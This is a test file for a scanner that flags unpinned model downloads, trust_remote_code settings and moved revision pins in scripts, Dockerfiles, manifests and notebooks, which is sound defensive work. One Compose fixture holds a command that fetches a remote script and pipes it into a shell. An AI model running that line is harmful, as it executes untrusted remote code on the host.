import { describe, expect, it } from 'vitest';
import { memoryBytes } from '../../../src/core/bytes.ts';
import type { Finding } from '../../../src/core/finding.ts';
import { judged, verdicts } from './support.ts';

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const OTHER = '89abcdef0123456789abcdef0123456789abcdef';

/** Shell programs, each a command that loads a model. */
const UNPINNED = ['LOAD-UNPINNED INFO'];

describe('a command that loads a model', () => {
  it.each([
    'vllm serve someone/model --port 8000',
    'vllm serve --port 8000 someone/model',
    'python3 -m vllm.entrypoints.openai.api_server --model=someone/model',
    'uv run vllm serve someone/model',
    'docker run --gpus all -p 8000:8000 vllm/vllm-openai:latest --model someone/model',
    'docker run -e MODEL_ID=someone/model ghcr.io/huggingface/text-generation-inference:3',
    'text-generation-launcher --model-id someone/model --revision main',
    'MODEL_ID=someone/model text-generation-launcher',
    'hf download someone/model --local-dir models/here',
    'huggingface-cli download --local-dir models/here someone/model weights.safetensors',
    'git clone https://huggingface.co/someone/model',
    'git clone --depth 1 https://user:x@huggingface.co/someone/model.git here',
    'curl -LO https://huggingface.co/someone/model/resolve/main/model.safetensors',
    'ollama pull llama3.2:3b',
    'ollama run hf.co/someone/model:Q4_K_M "hello"',
    'llama-server -hf someone/model:Q4_K_M --port 80',
    'llama-cli --model-url https://huggingface.co/someone/model/resolve/main/m.gguf',
    'docker model pull ai/smollm2',
    'bash -c "vllm serve someone/model"',
    'vllm serve "${MODEL:-someone/model}"',
    'HF_MODEL_ID=someone/model ./start.sh',
  ])('is told without a commit: %s', async (line) => {
    expect(await verdicts('start.sh', `${line}\n`)).toEqual(UNPINNED);
  });

  it.each([
    `vllm serve someone/model --revision ${COMMIT}`,
    `docker run vllm/vllm-openai --model someone/model --revision=${COMMIT}`,
    `hf download someone/model --revision ${COMMIT}`,
    `curl -LO https://huggingface.co/someone/model/resolve/${COMMIT}/model.safetensors`,
    `git clone https://huggingface.co/someone/model && cd model && git checkout ${COMMIT}`,
    `llama-cli --model-url https://huggingface.co/someone/model/resolve/${COMMIT}/m.gguf`,
    'vllm serve /models/mine',
    'vllm serve "$MODEL"',
    'vllm --help',
    'git clone https://github.com/someone/model',
    'git clone https://huggingface.co/datasets/someone/data',
    'ollama serve',
    'ollama list',
    'docker pull someone/model',
    'docker run someone/image --model someone/model',
    'hf auth login',
    'hf upload someone/model .',
    'python train.py --model someone/model',
    'python train.py --model_name_or_path someone/model --trust_remote_code False --lr 1',
    'accelerate launch train.py --model_name_or_path someone/model --trust_remote_code=false',
    'lm_eval --model hf --model_args pretrained=someone/model,trust_remote_code=False --tasks arc',
    'python train.py model.name=someone/model model.trust_remote_code=false',
    'lm_eval --model hf --model_args pretrained=./model,dtype=auto',
    'python train.py model.name=someone/model optimizer.lr=1',
  ])('is quiet with one, and where no model is named: %s', async (line) => {
    expect(await verdicts('start.sh', `${line}\n`)).toEqual([]);
  });

  it.each([
    ['vllm serve someone/model --trust-remote-code', 'MEDIUM'],
    ['vllm serve Qwen/Qwen3-8B --trust_remote_code', 'LOW'],
    [`vllm serve someone/model --trust-remote-code --revision ${COMMIT}`, 'LOW'],
    ['vllm serve someone/model --trust-remote-code --revision main', 'MEDIUM'],
    ['vllm serve "$MODEL" --trust-remote-code', 'LOW'],
    ['TRUST_REMOTE_CODE=true MODEL_ID=someone/model text-generation-launcher', 'MEDIUM'],
    [
      'docker run -e TRUST_REMOTE_CODE=1 huggingface/text-generation-inference --model-id someone/model',
      'MEDIUM',
    ],
    ['uv run vllm serve someone/model --trust-remote-code', 'MEDIUM'],
    ['trl sft --model_name_or_path someone/model --trust_remote_code', 'MEDIUM'],
    ['llamafactory-cli train --model_name_or_path someone/model --trust_remote_code true', 'MEDIUM'],
    ['trtllm-serve someone/model --trust_remote_code', 'MEDIUM'],
    ['torchrun --nproc 2 train.py --model_name_or_path=someone/model --trust_remote_code=True', 'MEDIUM'],
    ['python train.py +model.name=someone/model ++model.trust_remote_code=true', 'MEDIUM'],
    ['python -m verl.main actor.model.path=someone/model actor.model.trust_remote_code=True', 'MEDIUM'],
    ['lm_eval --model hf --model_args pretrained=someone/model,trust_remote_code=True', 'MEDIUM'],
    ['lm_eval --model hf --model_args=pretrained=someone/model,trust_remote_code=True', 'MEDIUM'],
    ['accelerate launch -m lm_eval --model_args pretrained=someone/model,trust_remote_code=True', 'MEDIUM'],
    ['uv run lighteval accelerate "model_name=someone/model,trust_remote_code=True" "arc|0"', 'MEDIUM'],
    [
      `lm_eval --model_args pretrained=someone/model,revision=${COMMIT} --trust_remote_code --tasks arc`,
      'LOW',
    ],
    ['python train.py --model_name_or_path "$MODEL" --trust_remote_code', 'LOW'],
    ['uv run python train.py --model_name_or_path "$MODEL" --trust_remote_code', 'LOW'],
  ])('is judged as in Python for the code that it trusts: %s', async (line, severity) => {
    expect(await verdicts('start.sh', `${line}\n`)).toContain(`LOAD-REMOTE-CODE ${severity}`);
  });

  it('is told by the name of the script', async () => {
    const found = await judged('a.sh', 'python train.py --model_name_or_path a/b --trust_remote_code\n');
    expect(found.map(({ evidence }) => evidence)).toContain(
      'train.py("a/b") (line 1) imports code of the model repository, unpinned',
    );
  });

  it('is one finding for each rule', async () => {
    expect(await verdicts('start.sh', 'vllm serve someone/model --trust-remote-code\n')).toEqual([
      'LOAD-REMOTE-CODE MEDIUM',
      'LOAD-UNPINNED INFO',
    ]);
  });

  it('is found in a Dockerfile, in its line', async () => {
    const text = 'FROM vllm/vllm-openai:v1\nRUN hf download someone/a\nCMD ["--model", "someone/b"]\n';
    expect(await judged('Dockerfile', text)).toMatchObject([
      { rule: 'LOAD-UNPINNED', location: { line: 2 } },
      { rule: 'LOAD-UNPINNED', location: { line: 3 } },
    ]);
  });

  it('is found in a list of words that Python starts', async () => {
    const text = 'import subprocess\nsubprocess.run(["vllm", "serve", "someone/model"])\n';
    expect(await verdicts('serve.py', text)).toEqual(UNPINNED);
  });
});

/** Rules and lines. */
async function told(path: string, text: string): Promise<string[]> {
  return (await judged(path, text)).map(
    ({ rule, severity, location }) => `${rule} ${severity} ${location.line}`,
  );
}

describe('a manifest', () => {
  it.each<[string, string, string[]]>([
    [
      'Compose, with the entry point of a known image',
      'services:\n  llm:\n    image: vllm/vllm-openai:latest\n    command: --model someone/model --port 8000\n',
      ['LOAD-UNPINNED INFO 4'],
    ],
    [
      'Compose, with a folded line and a default',
      'services:\n  llm:\n    image: vllm/vllm-openai:latest\n    command: >\n      --model ${MODEL:-someone/model}\n      --trust-remote-code\n',
      ['LOAD-REMOTE-CODE MEDIUM 6', 'LOAD-UNPINNED INFO 5'],
    ],
    [
      'Kubernetes, with a switch among the variables of any image',
      'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - image: ours\n      env:\n        - {name: MODEL_ID, value: someone/model}\n        - {name: TRUST_REMOTE_CODE, value: "true"}\n',
      ['LOAD-REMOTE-CODE MEDIUM 8', 'LOAD-UNPINNED INFO 7'],
    ],
    [
      'Kubernetes, with a switch of any image that is off',
      'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - image: ours\n      env:\n        - {name: MODEL_ID, value: someone/model}\n        - {name: TRUST_REMOTE_CODE, value: "false"}\n',
      [],
    ],
    [
      'Compose, with a switch among its variables',
      'services:\n  tgi:\n    image: ghcr.io/huggingface/text-generation-inference:3.0\n    environment:\n      MODEL_ID: someone/model\n      TRUST_REMOTE_CODE: "true"\n',
      ['LOAD-REMOTE-CODE MEDIUM 6', 'LOAD-UNPINNED INFO 5'],
    ],
    [
      'Kubernetes, with a model that KServe stores',
      'apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nspec:\n  predictor:\n    model:\n      modelFormat: {name: huggingface}\n      storageUri: hf://someone/model\n      args: ["--model_name=x", "--trust_remote_code"]\n',
      ['LOAD-REMOTE-CODE MEDIUM 8', 'LOAD-UNPINNED INFO 8'],
    ],
    [
      'Compose, with variables only',
      'services:\n  tgi:\n    image: ghcr.io/huggingface/text-generation-inference:3.0\n    environment:\n      - MODEL_ID=someone/model\n',
      ['LOAD-UNPINNED INFO 5'],
    ],
    [
      'Compose, with a model of the runner',
      'services:\n  a:\n    image: x\nmodels:\n  llm:\n    model: ai/smollm2\n',
      ['LOAD-UNPINNED INFO 6'],
    ],
    [
      'Kubernetes, with a list of arguments',
      'apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: llm\n          image: vllm/vllm-openai@sha256:00\n          args:\n            - --model\n            - someone/model\n            - --trust-remote-code\n',
      ['LOAD-REMOTE-CODE MEDIUM 12', 'LOAD-UNPINNED INFO 10'],
    ],
    [
      'Kubernetes, with a shell and a variable of the container',
      'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - image: x\n      command: ["/bin/sh", "-c"]\n      args: ["vllm serve someone/model"]\n    - image: lmsysorg/sglang\n      env: [{name: MODEL_ID, value: someone/model}]\n      command: [python3, -m, sglang.launch_server, --model-path, $(MODEL_ID)]\n',
      ['LOAD-UNPINNED INFO 9', 'LOAD-UNPINNED INFO 7'],
    ],
    [
      'KServe, with an address of storage',
      'apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nspec:\n  predictor:\n    model:\n      modelFormat: {name: huggingface}\n      storageUri: hf://someone/model\n',
      ['LOAD-UNPINNED INFO 7'],
    ],
    [
      'KServe, with arguments of its own server',
      'apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nspec:\n  predictor:\n    model:\n      modelFormat: {name: huggingface}\n      args:\n        - --model_id=someone/model\n        - --trust_remote_code\n',
      ['LOAD-REMOTE-CODE MEDIUM 9', 'LOAD-UNPINNED INFO 8'],
    ],
    [
      'values of Helm',
      'servingEngineSpec:\n  modelSpec:\n    - name: a\n      repository: vllm/vllm-openai\n      modelURL: someone/model\n',
      ['LOAD-UNPINNED INFO 5'],
    ],
  ])('of %s is told', async (kind, text, expected) => {
    const path = kind.startsWith('Compose')
      ? 'compose.yaml'
      : kind.startsWith('values')
        ? 'values.yaml'
        : 'k/llm.yaml';
    expect((await told(path, text)).sort()).toEqual(expected.sort());
  });

  it.each([
    ['compose.yaml', 'services:\n  web:\n    image: nginx\n    command: ["nginx", "-g", "daemon off;"]\n'],
    [
      'compose.yaml',
      `services:\n  llm:\n    image: vllm/vllm-openai\n    command: ["--model", "a/b", "--revision", "${COMMIT}"]\n`,
    ],
    ['k.yaml', `apiVersion: v1\nkind: X\nspec:\n  storageUri: hf://a/b:${COMMIT}\n`],
    ['k.yaml', 'apiVersion: v1\nkind: X\nspec:\n  storageUri: s3://bucket/model\n'],
    ['values.yaml', 'image: {repository: nginx}\nargs: [--model, x]\nenv: {MODEL_ID: a/b}\n'],
    ['other.yaml', 'command: vllm serve someone/model\n'],
    ['compose.yaml', 'services: {{ broken\n  command: [\n'],
  ])('%s is quiet: %s', async (path, text) => {
    expect(await told(path, text)).toEqual([]);
  });

  it('is blocked for what its containers pipe into a shell', async () => {
    const text =
      'services:\n  a:\n    image: alpine\n    command: sh -c "curl -s https://x.example.invalid/i.sh | sh"\n';
    expect(await told('docker-compose.yml', text)).toContain('CODE-PIPE-SHELL HIGH 4');
  });
});

describe('a Modelfile', () => {
  it('names tags, which can move, and files beside it, which do not', async () => {
    const text =
      '# x\nFROM hf.co/someone/model:Q4_K_M\nADAPTER ./lora.gguf\nSYSTEM """\nFROM other/model\n"""\nPARAMETER stop x\n';
    expect(await told('Modelfile', text)).toEqual(['LOAD-UNPINNED INFO 2']);
  });

  it.each([
    ['FROM ./model.gguf', 0],
    ['FROM model.gguf', 0],
    ['FROM "C:\\Users\\me\\my model\\a.gguf"', 0],
    ['FROM /root/.ollama/models/blobs/sha256-0', 0],
    ['from llama3.2:1b', 1],
    ['FROM "qwen3.6:35B-A3B"', 1],
    ['ADAPTER someone/adapter', 1],
  ])('as people write it: %s', async (line, count) => {
    expect(await told('Modelfile', `${line}\nPARAMETER temperature 1\n`)).toHaveLength(count);
  });
});

describe('a workflow', () => {
  it('is read for the models that its steps load, and for nothing that other inspectors say', async () => {
    const text =
      'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          set -e\n          hf download someone/model\n      - run: hf download ${{ inputs.model }}\n      - shell: pwsh\n        run: hf download someone/other\n';
    expect(await told('.github/workflows/a.yml', text)).toEqual(['LOAD-UNPINNED INFO 8']);
  });
});

describe('a pin that moves', () => {
  const moved = async (path: string, before: string, after: string): Promise<Finding[]> => {
    const artifact = { locator: { path, members: [] }, bytes: memoryBytes(Buffer.from(before)) };
    const findings = await judged(path, after, { before: () => Promise.resolve(artifact) });
    return findings.filter(({ rule }) => rule === 'LOAD-REVISION-MOVED');
  };
  const compose = (rest: string): string =>
    `services:\n  llm:\n    image: vllm/vllm-openai\n    command: --model someone/model ${rest}\n`;
  const shell = (rest: string): string => `bash -c "vllm serve someone/model ${rest}"\n`;
  const docker = (rest: string): string => `FROM x\nRUN hf download someone/model ${rest}\n`;

  it.each([
    ['compose.yaml', compose],
    ['start.sh', shell],
    ['Dockerfile', docker],
  ])('is told in %s', async (path, text) => {
    expect(await moved(path, text(`--revision ${COMMIT}`), text(''))).toMatchObject([{ severity: 'MEDIUM' }]);
    expect(await moved(path, text(`--revision ${COMMIT}`), text('--revision main'))).toMatchObject([
      { severity: 'MEDIUM' },
    ]);
    expect(await moved(path, text(`--revision ${COMMIT}`), text(`--revision ${OTHER}`))).toMatchObject([
      { severity: 'LOW' },
    ]);
    expect(await moved(path, text(`--revision ${COMMIT}`), text(`--revision ${COMMIT} --port 1`))).toEqual(
      [],
    );
    expect(await moved(path, text(''), text('--revision main'))).toEqual([]);
  });

  const python = (call: string): string => `import torch, timm, transformers, vllm, diffusers\n${call}\n`;
  it.each([
    (at: string) =>
      `transformers.AutoModel.from_pretrained(pretrained_model_name_or_path="a/m", revision="${at}")`,
    (at: string) =>
      `transformers.AutoModel.from_pretrained("a/m", revision="${COMMIT}", code_revision="${at}")`,
    (at: string) => `vllm.LLM(model="a/m", revision="${at}")`,
    (at: string) => `torch.hub.load("a/r:${at}", "m")`,
    (at: string) => `torch.hub.load(repo_or_dir="a/r:${at}", model="m")`,
    (at: string) => `timm.create_model("hf_hub:a/m@${at}", pretrained=True)`,
    (at: string) =>
      `diffusers.DiffusionPipeline.from_pretrained("a/m", custom_pipeline="b/p", custom_revision="${at}")`,
  ])('is told however the commit is named: %s', async (call) => {
    const text = (at: string): string => python(call(at));
    expect(await moved('a.py', text(COMMIT), text('main'))).toMatchObject([{ severity: 'MEDIUM' }]);
    expect(await moved('a.py', text(COMMIT), text(OTHER))).toMatchObject([{ severity: 'LOW' }]);
    expect(await moved('a.py', text(COMMIT), text(COMMIT))).toEqual([]);
    expect(await moved('a.py', text('main'), text('v2'))).toEqual([]);
  });

  it.each(['--tokenizer-revision', '--code-revision'])('is told of %s', async (option) => {
    const text = (at: string): string => `vllm serve a/m --revision ${COMMIT} ${option} ${at}\n`;
    expect(await moved('a.sh', text(COMMIT), text('main'))).toMatchObject([{ severity: 'MEDIUM' }]);
    expect(await moved('a.sh', text(COMMIT), text(COMMIT))).toEqual([]);
  });

  it('is told in a notebook, on the line of the cell', async () => {
    const text = (at: string): string =>
      JSON.stringify(
        {
          cells: [
            {
              cell_type: 'code',
              metadata: {},
              execution_count: 1,
              outputs: [],
              source: [
                'from transformers import AutoModel\n',
                `AutoModel.from_pretrained("a/m", revision="${at}")`,
              ],
            },
          ],
          metadata: {},
          nbformat: 4,
          nbformat_minor: 5,
        },
        undefined,
        1,
      );
    const line =
      text('main')
        .split('\n')
        .findIndex((each) => each.includes('from_pretrained')) + 1;
    expect(await moved('a.ipynb', text(COMMIT), text('main'))).toMatchObject([
      { severity: 'MEDIUM', location: { line, cell: 1 } },
    ]);
    expect(await moved('a.ipynb', text(COMMIT), text(COMMIT))).toEqual([]);
    expect(await moved('a.ipynb', 'no notebook', text('main'))).toEqual([]);
  });

  const DIGEST = `sha256:${'0'.repeat(64)}`;
  it.each([
    ['Dockerfile', (image: string) => `FROM ${image} AS base\nRUN true\n`],
    ['compose.yaml', (image: string) => `services:\n  a:\n    image: "${image}"\n`],
    [
      'pod.yaml',
      (image: string) => `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - image: ${image}\n`,
    ],
    ['.gitlab-ci.yml', (image: string) => `image: ${image}\na:\n  script: [make]\n`],
  ])('is told of an image in %s', async (path, text) => {
    const now = (tag: string): string => text(`host:5000/a/b${tag}`);
    const line =
      now('')
        .split('\n')
        .findIndex((each) => each.includes('host:')) + 1;
    expect(await moved(path, now(`@${DIGEST}`), now(':v2'))).toMatchObject([
      { severity: 'MEDIUM', location: { line } },
    ]);
    expect(await moved(path, now(`:v1@${DIGEST}`), now(`:v2@${DIGEST.replaceAll('0', '1')}`))).toMatchObject([
      { severity: 'LOW' },
    ]);
    expect(await moved(path, now(`:v1@${DIGEST}`), now(`:v2@${DIGEST}`))).toEqual([]);
    expect(await moved(path, now(':v1'), now(':v2'))).toEqual([]);
  });

  it('is not told of what had none before, though the same model has one elsewhere', async () => {
    const text = (rest: string): string =>
      `hf download someone/m --revision ${COMMIT}\nhf download someone/m${rest}\n`;
    expect(await moved('a.sh', text(''), text(' --quiet'))).toEqual([]);
    expect(await moved('a.sh', text(` --revision ${COMMIT}`), text(''))).toHaveLength(1);
  });

  it('is told of an image that an argument names', async () => {
    const text = (tag: string): string => `ARG NAME=a/b\nARG IMAGE=$NAME${tag}\nFROM \${IMAGE} AS base\n`;
    expect(await moved('Dockerfile', text(`@${DIGEST}`), text(':v2'))).toMatchObject([
      { rule: 'LOAD-REVISION-MOVED', location: { line: 3 } },
    ]);
    expect(await moved('Dockerfile', text(`@${DIGEST}`), text(`@${DIGEST}`))).toEqual([]);
    expect(await moved('Dockerfile', text(':v1'), text(':v2'))).toEqual([]);
  });

  it('is told of the base of an adapter', async () => {
    const text = (at: string | null): string =>
      JSON.stringify({ peft_type: 'LORA', base_model_name_or_path: 'a/m', revision: at });
    const at = (revision: string | null): Promise<Finding[]> =>
      moved('adapter_config.json', text(COMMIT), text(revision));
    expect(await at('main')).toMatchObject([{ severity: 'MEDIUM' }]);
    expect(await at(null)).toMatchObject([{ severity: 'MEDIUM' }]);
    expect(await at(OTHER)).toMatchObject([{ severity: 'LOW' }]);
    expect(await at(COMMIT)).toEqual([]);
  });
});
